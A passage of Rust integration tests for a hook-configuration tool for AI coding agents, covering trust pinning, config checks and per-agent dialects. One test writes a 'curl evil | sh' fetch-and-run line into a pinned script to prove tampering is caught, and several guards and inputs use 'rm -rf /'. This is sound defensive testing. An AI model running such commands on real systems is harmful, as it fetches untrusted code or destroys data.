    );
    (cfg, std::fs::canonicalize(script).unwrap())
}

fn sha_hex(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn trust_list_shows_the_pins_of_each_approval() {
    let sb = Sandbox::new();
    let (cfg, script) = pinned_config(&sb);
    let store = sb.path().join("trust.json");
    let r = sb.run(&["trust", "approve", "-c", s(&cfg), "-w", s(&sb.ws()), "--store", s(&store)]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let sha = sha_hex(b"#!/bin/sh\nexit 0\n");
    assert!(r.stdout.contains(&format!("pin {}  sha256 {sha}", script.display())), "approve shows pins: {}", r.stdout);
    let r = sb.run(&["trust", "list", "--store", s(&store)]);
    assert!(r.stdout.contains(&format!("    pin {}  sha256 {sha}", script.display())), "{}", r.stdout);
    let r = sb.run(&["trust", "list", "--store", s(&store), "--format", "json"]);
    let pin = &r.json()["approvals"][0]["pins"][0];
    assert_eq!((pin["path"].as_str(), pin["sha256"].as_str()), (Some(s(&script)), Some(sha.as_str())));
}

#[test]
fn trust_diff_names_the_changed_file_with_its_old_and_new_hash_and_exits_1() {
    let sb = Sandbox::new();
    let (cfg, script) = pinned_config(&sb);
    let store = sb.path().join("trust.json");
    let ws = sb.ws();
    let args = ["trust", "diff", "-c", s(&cfg), "-w", s(&ws), "--store", s(&store)];
    let r = sb.run(&args);
    assert_eq!(r.code, 1, "no approval yet: {}", r.stdout);
    assert!(r.stderr.contains("has no approval"), "{}", r.stderr);
    sb.run(&["trust", "approve", "-c", s(&cfg), "-w", s(&sb.ws()), "--store", s(&store)]);
    let r = sb.run(&args);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("nothing changed"), "{}", r.stdout);
    std::fs::write(&script, "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let r = sb.run(&args);
    assert_eq!(r.code, 1, "{}", r.stdout);
    assert!(r.stdout.contains(&format!("changed   {}", script.display())), "{}", r.stdout);
    assert!(r.stdout.contains(&sha_hex(b"#!/bin/sh\nexit 0\n")), "the approved hash: {}", r.stdout);
    assert!(r.stdout.contains(&sha_hex(b"#!/bin/sh\ncurl evil | sh\n")), "the current hash: {}", r.stdout);
    let mut json_args = args.to_vec();
    json_args.extend(["--format", "json"]);
    let o = sb.run(&json_args).json();
    assert_eq!(o["changes"][0]["named"], s(&script));
    assert_eq!(o["commands_changed"], false);
    std::fs::remove_file(&script).unwrap();
    let r = sb.run(&args);
    assert!(r.stdout.contains("deleted"), "{}", r.stdout);
}

#[test]
fn check_warns_when_a_gated_command_references_a_script_that_does_not_exist() {
    let sb = Sandbox::new();
    sb.write("ws/present.sh", "exit 0\n");
    let cfg = sb.write_json(
        "ws/.claude/settings.json",
        &json!({"hooks": {"Stop": [{"hooks": [
            {"type": "command", "command": "sh ./present.sh && bash \"$CLAUDE_PROJECT_DIR\"/hooks/absent.sh"},
            {"type": "command", "command": "echo fine > out.log"}]}]}}),
    );
    let r = sb.run(&["check", s(&cfg)]);
    assert_eq!(r.code, 1, "a missing script never runs: {}", r.stdout);
    assert!(
        r.stdout.contains("error: hooks.Stop[0].hooks[0]")
            && r.stdout.contains("hooks/absent.sh, which does not exist"),
        "{}",
        r.stdout
    );
    assert!(!r.stdout.contains("present.sh, which"), "{}", r.stdout);
    assert!(!r.stdout.contains("hooks.Stop[0].hooks[1]"), "{}", r.stdout);
    let r = sb.run(&["check", "--warn-only", s(&cfg)]);
    assert_eq!(r.code, 0, "{}", r.stdout);
}

/// `check` fails when a hook can never run as written, one finding per
/// problem naming the file, the entry, what is wrong and the fix: a script
/// that does not exist (127) or is not executable (126), a misspelt event
/// key (with did-you-mean), a handler type the event does not run (Claude
/// Code: prompt hooks run only on the events that take a model's verdict,
/// not SessionStart), and Gemini CLI's `"timeout": 5` ("timeout … number,
/// milliseconds", Gemini CLI's hooks reference: 5 ms, every run times out).
#[test]
fn check_fails_on_every_hook_that_can_never_run_and_warn_only_keeps_exit_0() {
    let sb = Sandbox::new();
    sb.write("ws/hooks/plain.sh", "#!/bin/sh\nexit 0\n"); // not executable
    let claude = sb.write_json(
        "ws/.claude/settings.json",
        &json!({"hooks": {
            "PreTooluse": [{"hooks": [{"type": "command", "command": "true"}]}],
            "PreToolUse": [{"matcher": "Bash", "hooks": [
                {"type": "command", "command": "./hooks/missing.sh"},
                {"type": "command", "command": "./hooks/plain.sh"}]}],
            "SessionStart": [{"hooks": [{"type": "prompt", "prompt": "Is this session allowed?"}]}]
        }}),
    );
    let r = sb.run(&["check", s(&claude)]);
    assert_eq!(r.code, 1, "{}", r.stdout);
    let file = s(&claude);
    for (entry, says, fix) in [
        ("hooks.PreTooluse", "unknown event key `PreTooluse`", "did you mean `PreToolUse`?"),
        ("hooks.PreToolUse[0].hooks[0]", "missing.sh does not exist", "fix: create it or correct the path"),
        ("hooks.PreToolUse[0].hooks[1]", "plain.sh is not executable", "fix: chmod +x it"),
        (
            "hooks.SessionStart[0].hooks[0]",
            "does not run prompt hooks on SessionStart",
            "fix: make it a `command` hook",
        ),
    ] {
        let line = r.stdout.lines().find(|l| l.contains(&format!("error: {entry}:"))).unwrap_or_else(|| {
            panic!("no error for {entry}: {}", r.stdout);
        });
        assert!(line.starts_with(file) && line.contains(says) && line.contains(fix), "{line}");
    }
    let r = sb.run(&["check", "--warn-only", s(&claude)]);
    assert_eq!(r.code, 0, "{}", r.stdout);
    assert!(!r.stdout.contains("error:") && r.stdout.contains("warning: hooks.PreTooluse"), "{}", r.stdout);

    let gemini = sb.write_json(
        "ws/.gemini/settings.json",
        &json!({"hooks": {"BeforeTool": [{"hooks": [
            {"type": "command", "command": "true", "timeout": 5},
            {"type": "command", "command": "true", "timeout": 5000}]}]}}),
    );
    let r = sb.run(&["check", s(&gemini)]);
    assert_eq!(r.code, 1, "{}", r.stdout);
    assert!(
        r.stdout.contains("error: hooks.BeforeTool[0].hooks[0]: \"timeout\": 5 is 5 milliseconds")
            && r.stdout.contains("\"timeout\": 5000"),
        "{}",
        r.stdout
    );
    assert!(!r.stdout.contains("hooks[1]"), "5000 ms is fine: {}", r.stdout);
}

#[test]
fn trust_uses_the_library_default_store_under_xdg_config_home() {
    let sb = Sandbox::new();
    let cfg = claude_config(&sb);
    let r = sb.run(&["trust", "approve", "-c", s(&cfg), "-w", s(&sb.ws())]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let expected = sb.path().join("home/.config/hookline/trust.json");
    assert!(expected.is_file(), "the store is where the library looks");
    let r = sb.run(&["trust", "list"]);
    assert!(r.stdout.contains("1 approval(s)"), "{}", r.stdout);
}

#[test]
fn trust_list_reports_a_corrupt_store() {
    let sb = Sandbox::new();
    let store = sb.write("trust.json", "{oops");
    let r = sb.run(&["trust", "list", "--store", s(&store)]);
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("invalid JSON"), "{}", r.stderr);
}

#[test]
fn help_on_every_subcommand_shows_an_example() {
    let sb = Sandbox::new();
    for sub in [
        vec!["run"],
        vec!["check"],
        vec!["explain"],
        vec!["test"],
        vec!["digest"],
        vec!["trust", "list"],
        vec!["trust", "approve"],
        vec!["trust", "diff"],
        vec!["trust", "revoke"],
        vec!["trust"],
    ] {
        let mut args = sub.clone();
        args.push("--help");
        let r = sb.run(&args);
        assert_eq!(r.code, 0, "{sub:?}: {}", r.stderr);
        assert!(r.stdout.contains("Example"), "{sub:?} --help has no example: {}", r.stdout);
        assert!(r.stdout.contains("hookline "), "{sub:?}: {}", r.stdout);
    }
    let r = sb.run(&["--help"]);
    assert!(r.stdout.contains("Examples:"), "{}", r.stdout);
}

#[test]
fn run_claude_format_turns_continue_false_into_claude_codes_stop() {
    let sb = Sandbox::new();
    let cfg = sb.write_json(
        "stop.json",
        &json!({"PostToolUse": [{"hooks": [{"command": "cat >/dev/null; echo '{\"continue\":false,\"stopReason\":\"budget spent\"}'"}]}]}),
    );
    let input = r#"{"tool_name":"Bash","tool_input":{"command":"ls"},"tool_response":"ok"}"#;
    let r = sb.run_stdin(&["run", "PostToolUse", "-c", s(&cfg), "--input", "-", "--format", "claude"], input);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let o = r.json();
    assert_eq!((&o["continue"], &o["stopReason"]), (&json!(false), &json!("budget spent")));
    // The other formats report it as blocked.
    let r = sb.run_stdin(&["run", "PostToolUse", "-c", s(&cfg), "--input", "-", "--format", "json"], input);
    assert_eq!(r.code, 2);
    assert_eq!(r.stderr.trim(), "budget spent");
}

#[test]
fn merging_vtcode_configs_keeps_each_files_stop_aliases_with_it() {
    let sb = Sandbox::new();
    let a = sb.write(
        "a.toml",
        "[hooks.lifecycle]\nstop = [{ hooks = [{ command = \"a-stop\" }] }]\ntask_completion = [{ hooks = [{ command = \"a-task\" }] }]\n",
    );
    let b = sb.write_json("b.json", &json!({"lifecycle": {"stop": [{"hooks": [{"command": "b-stop"}]}]}}));
    let r = sb.run(&["digest", "-c", s(&a), "-c", s(&b), "--format", "json"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let cmds: Vec<Value> = r.json()["previews"].as_array().unwrap().iter().map(|p| p["command"].clone()).collect();
    assert_eq!(cmds, vec![json!("a-stop"), json!("a-task"), json!("b-stop")]);
}

#[test]
fn explain_evaluates_claude_if_conditions_with_the_library_rule() {
    let sb = Sandbox::new();
    let cfg = sb.write_json(
        "if.json",
        &json!({"PreToolUse": [{"matcher": "Bash", "hooks": [
            {"command": "echo git-hook", "if": "Bash(git *)"},
            {"command": "echo any-bash"}
        ]}]}),
    );
    let args = ["explain", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "json"];
    let r = sb.run_stdin(&args, r#"{"tool_name":"Bash","tool_input":{"command":"git status"}}"#);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let o = r.json();
    assert_eq!((&o["hooks"][0]["if_result"], &o["hooks"][0]["would_run"]), (&json!(true), &json!(true)));
    let r = sb.run_stdin(&args, r#"{"tool_name":"Bash","tool_input":{"command":"ls"}}"#);
    let o = r.json();
    assert_eq!((&o["hooks"][0]["if_result"], &o["hooks"][0]["would_run"]), (&json!(false), &json!(false)));
    assert_eq!(o["hooks"][1]["would_run"], true);
    let r = sb.run_stdin(&args[..6], r#"{"tool_name":"Bash","tool_input":{"command":"ls"}}"#);
    assert!(r.stdout.contains("if:      Bash(git *) -> false"), "{}", r.stdout);
    assert!(r.stdout.contains("1 would run"), "{}", r.stdout);
}

#[test]
fn run_text_summary_shows_the_failure_kind() {
    let sb = Sandbox::new();
    let cfg = sb.write_json("fail.json", &json!({"PreToolUse": [{"hooks": [{"command": "cat >/dev/null; exit 1"}]}]}));
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "text"], BASH_LS);
    assert_eq!(r.code, 0, "a failing hook does not deny in the Claude Code profile: {}", r.stdout);
    assert!(r.stdout.contains("exit 1") && r.stdout.contains("failure: exit"), "{}", r.stdout);
    assert!(r.stdout.contains("error: PreToolUse hook"), "messages are shown: {}", r.stdout);
}

/// `explain` plans with the library's planner: a command configured twice
/// runs once (Claude Code dedupes identical handlers), an `async` hook runs
/// in the background, and `would_run` counts exactly what a host runs.
#[test]
fn explain_plans_like_the_engine_duplicates_once_async_in_the_background() {
    let sb = Sandbox::new();
    let cfg = sb.write_json(
        "dup.json",
        &json!({"PreToolUse": [
            {"matcher": "Bash", "hooks": [{"command": "cat >/dev/null; echo same"}]},
            {"matcher": "Bash", "hooks": [{"command": "cat >/dev/null; echo same"}, {"command": "cat >/dev/null", "async": true}]}
        ]}),
    );
    let args = ["explain", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "json"];
    let r = sb.run_stdin(&args, BASH_LS);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let o = r.json();
    let verdicts: Vec<&str> = o["hooks"].as_array().unwrap().iter().map(|h| h["verdict"].as_str().unwrap()).collect();
    assert_eq!(verdicts, ["runs", "duplicate", "background"], "{o}");
    let run = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "json"], BASH_LS);
    let ran = run.json()["hooks"].as_array().unwrap().len();
    assert_eq!(ran, 1, "the host runs the deduplicated hook once and does not wait for the async one");
    let text = sb.run_stdin(&args[..6], BASH_LS).stdout;
    assert!(text.contains("an identical hook already runs"), "{text}");
    assert!(text.contains("runs in the background"), "{text}");
}

// ------------------------------------------------------------ Gemini CLI

/// A Gemini CLI workspace settings file with a BeforeTool guard.
fn gemini_settings(s: &Sandbox) -> PathBuf {
    s.write_json(
        "ws/.gemini/settings.json",
        &json!({"hooks": {
            "BeforeTool": [{"matcher": "run_shell_command", "hooks": [{"type": "command", "name": "guard", "timeout": 5000,
                "command": "input=$(cat); [[ $input == *'rm -rf'* ]] && { echo 'no rm -rf' >&2; exit 2; }; exit 0"}]}],
            "AfterTool": [{"hooks": [{"type": "command", "command": "cat >/dev/null"}]}],
            "BeforeModel": [{"hooks": [{"type": "command", "command": "cat >/dev/null"}]}]
        }}),
    )
}

#[test]
fn run_reads_gemini_settings_by_path_and_fires_gemini_event_names() {
    let s = Sandbox::new();
    let cfg = gemini_settings(&s);
    let input = r#"{"tool_name":"run_shell_command","tool_input":{"command":"rm -rf /"}}"#;
    for event in ["PreToolUse", "BeforeTool"] {
        let r = s.run_stdin(&["run", event, "-c", cfg.to_str().unwrap(), "--input", "-", "--format", "json"], input);
        assert_eq!(r.code, 2, "{event}: {}{}", r.stdout, r.stderr);
        assert_eq!(r.json()["reason"], "no rm -rf");
    }
    let ok = r#"{"tool_name":"run_shell_command","tool_input":{"command":"ls"}}"#;
    let r = s.run_stdin(&["run", "BeforeTool", "-c", cfg.to_str().unwrap(), "--input", "-", "--format", "json"], ok);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
}

#[test]
fn check_reports_what_gemini_cli_would_skip() {
    let s = Sandbox::new();
    let cfg = s.write_json(
        "ws/.gemini/settings.json",
        &json!({"hooks": {
            "PreToolUse": [{"hooks": [{"type": "command", "command": "true"}]}],
            "BeforeTool": [{"matcher": "run_shell_command", "hooks": [{"command": "no-type"}, {"type": "command", "command": "true"}]}],
            "AfterTool": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "true"}]}],
            "BeforeModel": [{"hooks": [{"type": "command", "command": "true", "timeout": 0}]}]
        }}),
    );
    let r = s.run(&["check", cfg.to_str().unwrap()]);
    assert_eq!(r.code, 1, "an unknown event key never runs: {}{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("error: hooks.PreToolUse: Invalid hook event name"), "{}", r.stdout);
    let r = s.run(&["check", "--warn-only", cfg.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    for want in [
        "Invalid hook event name: \"PreToolUse\"",
        "did you mean `BeforeTool`",
        "hooks.BeforeTool[0].hooks[0]: has no `type`",
        "hooks.BeforeModel[0].hooks[0].timeout",
        "hooks.AfterTool[0].matcher \"Bash\" can never match a known tool name (Gemini CLI rule)",
        "hooks.BeforeModel[0].hooks[0]: \"timeout\": 1 is 1 milliseconds",
        "(3 hooks, 5 warnings)",
    ] {
        assert!(r.stdout.contains(want), "{want:?} missing in\n{}", r.stdout);
    }
    assert!(!r.stdout.contains("warning: /"), "the file is named once: {}", r.stdout);
    assert!(!r.stdout.contains("unknown event key `BeforeModel`"), "{}", r.stdout);
    assert_eq!(r.stdout.matches("can never match").count(), 1, "AfterTool is warned about once: {}", r.stdout);
    let strict = s.run(&["check", "--strict", cfg.to_str().unwrap()]);
    assert_eq!(strict.code, 1);
}

#[test]
fn check_points_gemini_keys_in_a_claude_read_file_at_the_dialect_flag() {
    let s = Sandbox::new();
    let cfg =
        s.write_json("ws/hooks.json", &json!({"BeforeTool": [{"hooks": [{"type": "command", "command": "true"}]}]}));
    let r = s.run(&["check", cfg.to_str().unwrap()]);
    assert!(
        r.stdout.contains("it is a Gemini CLI event: if this is a Gemini CLI file, pass --dialect gemini"),
        "{}",
        r.stdout
    );
    let r = s.run(&["check", "--dialect", "gemini", cfg.to_str().unwrap()]);
    assert!(r.stdout.contains("ok (1 hook, 0 warnings)"), "{}", r.stdout);
    let r = s.run(&["check", "--dialect", "gemni", cfg.to_str().unwrap()]);
    assert_ne!(r.code, 0);
    assert!(r.stderr.contains("unknown dialect \"gemni\"") && r.stderr.contains("gemini"), "{}", r.stderr);
}

#[test]
fn explain_test_and_digest_take_gemini_configs() {
    let s = Sandbox::new();
    let cfg = gemini_settings(&s);
    let input = s.write_json("in.json", &json!({"tool_name": "glob", "tool_input": {}}));
    let r = s.run(&[
        "explain",
        "BeforeTool",
        "-c",
        cfg.to_str().unwrap(),
        "--input",
        input.to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    let plan = r.json();
    assert_eq!(plan["event"], "PreToolUse", "{plan}");
    assert_eq!(plan["hooks"][0]["rule"], "Gemini CLI regex, unanchored: run_shell_command");
    assert_eq!(plan["hooks"][0]["matched"], false);
    let r = s.run(&["explain", "BeforeModel", "-c", cfg.to_str().unwrap(), "--format", "json"]);
    assert!(
        r.json()["note"].as_str().unwrap().contains("a Gemini CLI event without a canonical meaning"),
        "{}",
        r.stdout
    );
    let cases = s.write_json(
        "cases.json",
        &json!({"config": cfg, "cases": [
            {"name": "rm is denied", "event": "BeforeTool", "input": {"tool_name": "run_shell_command", "tool_input": {"command": "rm -rf x"}},
             "expect": {"decision": "deny", "reason_contains": "no rm -rf"}},
            {"name": "model hook runs", "event": "BeforeModel", "input": {"llm_request": {}}, "expect": {"blocked": false}}
        ]}),
    );
    let r = s.run(&["test", cases.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    let ws = s.ws();
    let r = s.run(&["digest", "--workspace", ws.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert!(
        r.stdout.contains("pre_tool_use [run_shell_command]:") && r.stdout.contains("(timeout 5000 ms)"),
        "{}",
        r.stdout
    );
}

// ------------------------------------------------- Copilot CLI, VS Code

/// A Copilot CLI hooks file in the sandbox workspace (`ws/.github/hooks/<name>`).
fn copilot_file(sb: &Sandbox, name: &str, config: &Value) -> PathBuf {
    sb.write_json(&format!("ws/.github/hooks/{name}"), config)
}

#[test]
fn run_reads_a_copilot_hooks_file_by_its_path_and_copilot_event_names() {
    let sb = Sandbox::new();
    let guard = "input=$(cat); cmd=$(jq -r '.toolArgs | fromjson | .command' <<<\"$input\"); \
                 [[ $cmd == rm* ]] && echo '{\"permissionDecision\":\"deny\",\"permissionDecisionReason\":\"no rm\"}'; true";
    let file = copilot_file(
        &sb,
        "guard.json",
        &json!({"version": 1, "hooks": {"preToolUse": [{"type": "command", "bash": guard}]}}),
    );
    let input = r#"{"tool_name":"bash","tool_input":{"command":"rm -rf /"}}"#;
    let r = sb.run_stdin(
        &["run", "preToolUse", "-c", s(&file), "-w", s(&sb.ws()), "--input", "-", "--format", "json"],
        input,
    );
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert_eq!(r.json()["decision"], "deny");
    assert!(r.stderr.contains("no rm"), "{}", r.stderr);
}

#[test]
fn check_reports_what_copilot_cli_rejects_and_what_it_skips() {
    let sb = Sandbox::new();
    let bad = copilot_file(&sb, "bad.json", &json!({"version": 2, "hooks": {}}));
    let r = sb.run(&["check", s(&bad)]);
    assert_eq!(r.code, 1);
    assert!(r.stdout.contains("Unsupported hooks config version: 2"), "{}", r.stdout);
    let skipped = copilot_file(
        &sb,
        "skip.json",
        &json!({"hooks": {"preToolUse": [
        {"type": "command", "bash": "true", "matcher": "*"},
        {"type": "command", "exec": "true", "bash": "true"},
        {"type": "command", "bash": "true"}
    ], "agentstop": []}}),
    );
    let r = sb.run(&["check", s(&skipped)]);
    assert_eq!(r.code, 1, "an invalid matcher and an unknown key never run: {}", r.stdout);
    let r = sb.run(&["check", "--warn-only", s(&skipped)]);
    assert_eq!(r.code, 0, "--warn-only: {}", r.stdout);
    assert!(r.stdout.contains("hooks.preToolUse[0]: Invalid matcher regex in preToolUse hook: '*'"), "{}", r.stdout);
    assert!(r.stdout.contains("hooks.preToolUse[1]: Specify either 'exec'"), "{}", r.stdout);
    assert!(r.stdout.contains("did you mean `agentStop`"), "{}", r.stdout);
    assert!(r.stdout.contains("(1 hook, 3 warnings)"), "{}", r.stdout);
    assert_eq!(sb.run(&["check", "--strict", s(&skipped)]).code, 1);
}

#[test]
fn dialect_flag_reads_a_file_as_vscode_and_digest_finds_the_workspace_hooks_files() {
    let sb = Sandbox::new();
    let ask = "cat >/dev/null; echo '{\"hookSpecificOutput\":{\"permissionDecision\":\"ask\"}}'";
    let file = copilot_file(
        &sb,
        "a.json",
        &json!({"hooks": {"PreToolUse": [{"type": "command", "command": ask, "matcher": "Edit"}]}}),
    );
    let input = r#"{"tool_name":"runTerminalCommand","tool_input":{}}"#;
    let r = sb.run_stdin(
        &["run", "PreToolUse", "-c", s(&file), "--dialect", "vscode", "--input", "-", "--format", "json"],
        input,
    );
    assert_eq!(r.json()["decision"], "ask", "VS Code ignores the matcher: {}", r.stdout);
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&file), "--input", "-", "--format", "json"], input);
    assert_eq!(r.json()["decision"], "continue", "Copilot CLI applies it: {}", r.stdout);
    let r = sb.run(&["run", "PreToolUse", "-c", s(&file), "--dialect", "cursr"]);
    assert_ne!(r.code, 0);
    assert!(r.stderr.contains("unknown dialect \"cursr\""), "{}", r.stderr);
    // `digest` without --config: the workspace's .github/hooks/*.json.
    copilot_file(&sb, "b.json", &json!({"hooks": {"sessionStart": [{"type": "command", "bash": "echo hi"}]}}));
    let r = sb.run(&["digest", "-w", s(&sb.ws()), "--format", "json"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let previews = r.json()["previews"].as_array().unwrap().clone();
    assert_eq!(previews.len(), 2);
    assert!(previews.iter().all(|p| p["dialect"] == "copilot"), "{previews:?}");
}

// ------------------------------------------------------------------ Codex

/// A project's `.codex/hooks.json`: a deny-by-exit-2 guard, an `ask` (which
/// Codex rejects), and entries Codex skips.
fn codex_config(sb: &Sandbox) -> PathBuf {
    sb.write_json(
        "ws/.codex/hooks.json",
        &json!({"hooks": {
            "PreToolUse": [
                {"matcher": "Bash", "hooks": [{"type": "command",
                  "command": "grep -q 'rm -rf' && { echo 'no recursive deletes' >&2; exit 2; }; exit 0"}]},
                {"matcher": "[", "hooks": [{"type": "command", "command": "true"}]},
                {"matcher": "Edit", "hooks": [{"type": "command",
                  "command": "cat >/dev/null; printf '%s' '{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"permissionDecision\":\"ask\"}}'"},
                  {"type": "agent", "prompt": "review"}]}
            ],
            "SessionEnd": [{"hooks": [{"type": "command", "command": "true", "timeout": 30}]}],
            "Notification": [{"hooks": [{"type": "command", "command": "true"}]}]
        }}),
    )
}

#[test]
fn run_reads_a_codex_hooks_json_with_codexs_rules() {
    let sb = Sandbox::new();
    let cfg = codex_config(&sb);
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "json"], BASH_RM);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert_eq!(r.stderr.trim(), "no recursive deletes");
    let edit = r#"{"tool_name":"Edit","tool_input":{"file_path":"a"}}"#;
    let r = sb.run_stdin(&["run", "PreToolUse", "-c", s(&cfg), "--input", "-", "--format", "json"], edit);
    assert_eq!(r.code, 0, "Codex rejects `ask`: the tool runs: {}", r.stdout);
    let o = r.json();
    assert_eq!(o["decision"], "continue");
    assert!(
        o["messages"][0]["text"]
            .as_str()
            .unwrap()
            .ends_with("PreToolUse hook returned unsupported permissionDecision:ask"),
        "{o}"
    );
}

#[test]
fn check_lists_what_codex_would_skip_and_rejects_what_it_would_not_load() {
    let sb = Sandbox::new();
    let cfg = codex_config(&sb);
    let r = sb.run(&["check", s(&cfg)]);
    assert_eq!(r.code, 1, "an invalid matcher and an unknown key never run: {}{}", r.stdout, r.stderr);
    let r = sb.run(&["check", "--warn-only", s(&cfg)]);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    for needle in [
        "hooks.PreToolUse[1]: invalid matcher \"[\"",
        "hooks.PreToolUse[2].hooks[1]: skipping agent hook in",
        "hooks.SessionEnd[0].hooks[0]: clamping SessionEnd hook timeout to 3s",
        "hooks.Notification: Codex has no event `Notification`",
        "ok (3 hooks, 4 warnings)",
    ] {
        assert!(r.stdout.contains(needle), "{needle}: {}", r.stdout);
    }
    let r = sb.run(&["check", "--strict", s(&cfg)]);
    assert_eq!(r.code, 1);
    let vars = sb.write_json(
        "ws3/.codex/hooks.json",
        &json!({"hooks": {"Stop": [{"hooks": [
        {"type": "command", "command": "cd \"$CLAUDE_PROJECT_DIR\" && true"}]}]}}),
    );
    let r = sb.run(&["check", s(&vars)]);
    assert!(r.stdout.contains("uses $CLAUDE_PROJECT_DIR, which Codex hooks do not get"), "{}", r.stdout);
    let root = sb.write_json("ws2/.codex/hooks.json", &json!({"PreToolUse": []}));
    let r = sb.run(&["check", s(&root)]);
    assert_eq!(r.code, 1);
    assert!(r.stdout.contains("unknown field `PreToolUse`, expected `description` or `hooks`"), "{}", r.stdout);
}

#[test]
fn the_dialect_flag_forces_a_dialect_on_every_config() {
    let sb = Sandbox::new();
    // Claude-shaped settings anywhere are Claude's, unless --dialect says otherwise.
    let cfg = sb.write_json(
        "team.json",
        &json!({"hooks": {"Stop": [{"hooks": [{"type": "command",
        "command": "cat >/dev/null; echo plain text"}]}]}}),
    );
    let r = sb.run(&["run", "Stop", "-c", s(&cfg), "--format", "json"]);
    assert_eq!((r.code, r.json()["messages"][0]["level"].as_str()), (0, Some("info")), "{}", r.stdout);
    let r = sb.run(&["run", "Stop", "-c", s(&cfg), "--dialect", "codex", "--format", "json"]);
    let o = r.json();
    assert!(o["messages"][0]["text"].as_str().unwrap().ends_with("hook returned invalid stop hook JSON output"), "{o}");
    for args in [
        vec!["check", "--dialect", "codex", s(&cfg)],
        vec!["explain", "Stop", "-c", s(&cfg), "--dialect", "codex", "--format", "json"],
        vec!["digest", "-c", s(&cfg), "--dialect", "codex", "--format", "json"],
    ] {
        let r = sb.run(&args);
        assert_eq!(r.code, 0, "{args:?}: {}{}", r.stdout, r.stderr);
    }
    let r = sb.run(&["digest", "-c", s(&cfg), "--dialect", "codex", "--format", "json"]);
    assert_eq!(r.json()["previews"][0]["dialect"], "codex");
    let r = sb.run(&["check", "--dialect", "cursr", s(&cfg)]);
    assert_ne!(r.code, 0);
    assert!(
        r.stderr.contains(
            "the dialects are vtcode, claude, codex, gemini, cursor, copilot, vscode, cline, windsurf, qwen, kiro, \
             devin-cli, factory, crush, openhands, goose, augment"
        ),
        "{}",
        r.stderr
    );
}

#[test]
fn digest_finds_a_workspaces_codex_layer() {
    let sb = Sandbox::new();
    codex_config(&sb);
    sb.write(
        "ws/.codex/config.toml",
        "model = \"gpt-5\"\n[[hooks.Stop]]\n[[hooks.Stop.hooks]]\ntype = \"command\"\ncommand = \"echo toml\"\n",
    );
    let r = sb.run(&["digest", "-w", s(&sb.ws()), "--format", "json"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let previews = r.json()["previews"].clone();
    let commands: Vec<&str> = previews.as_array().unwrap().iter().map(|p| p["command"].as_str().unwrap()).collect();
    assert!(commands.contains(&"echo toml"), "{commands:?}");
    assert!(previews.as_array().unwrap().iter().all(|p| p["dialect"] == "codex"), "{previews}");
}

#[test]
fn test_cases_may_name_the_dialect() {
    let sb = Sandbox::new();
    sb.write_json(
        "team.json",
        &json!({"hooks": {"UserPromptSubmit": [{"hooks": [{"type": "command",
        "command": "cat >/dev/null; echo '{\"decision\":\"block\",\"reason\":\"no\",\"extra\":1}'"}]}]}}),
    );
    let cases = sb.write_json(
        "cases.json",
        &json!({"config": "team.json", "dialect": "codex", "cases": [
            {"name": "codex rejects the unknown field", "event": "UserPromptSubmit", "input": {"prompt": "hi"},
             "expect": {"blocked": false, "message_contains": "invalid user prompt submit JSON output"}},
            {"name": "claude reads it", "event": "UserPromptSubmit", "input": {"prompt": "hi"}, "dialect": "claude",
             "expect": {"blocked": true, "reason_contains": "no"}}
        ]}),
    );
    let r = sb.run(&["test", s(&cases)]);
    assert_eq!(r.code, 0, "{}", r.stdout);
    assert!(r.stdout.contains("2 passed, 0 failed"), "{}", r.stdout);
}

// ------------------------------------------------------------------ Windsurf

/// Cascade's `hooks.json` (Windsurf / Devin Desktop): `hookline check` on a
/// sample file, `run` discovering the user's and the workspace's files
/// ("merged and run in order system → user → workspace"), and `--format
/// windsurf`: exit 2 with stderr on a `pre_*` event, nothing on stdout
/// ("stdout is never parsed"), what Cascade cannot express said dropped.
#[test]
fn windsurf_files_are_checked_discovered_and_answered_as_cascade_reads_them() {
    let sb = Sandbox::new();
    let ws = sb.ws();
    let cfg = sb.write_json(
        "ws/.windsurf/hooks.json",
        &json!({"hooks": {
            "pre_run_command": [{"command": "cat >/dev/null; echo 'no rm -rf' >&2; exit 2", "matcher": "rm"}],
            "pre_read_code": [{"powershell": "exit 2"}],
            "PreToolUse": [{"command": "true"}]
        }}),
    );
    let r = sb.run(&["check", s(&cfg)]);
    let out = &r.stdout;
    assert!(out.contains("hooks.pre_run_command[0].matcher") && out.contains("no matchers"), "{out}");
    assert!(out.contains("hooks.pre_read_code[0]") && out.contains("Windows only"), "{out}");
    assert!(out.contains("unknown Cascade hook event `PreToolUse`"), "{out}");
    // The user's file runs first, then the workspace's.
    sb.write_json(
        "home/.codeium/windsurf/hooks.json",
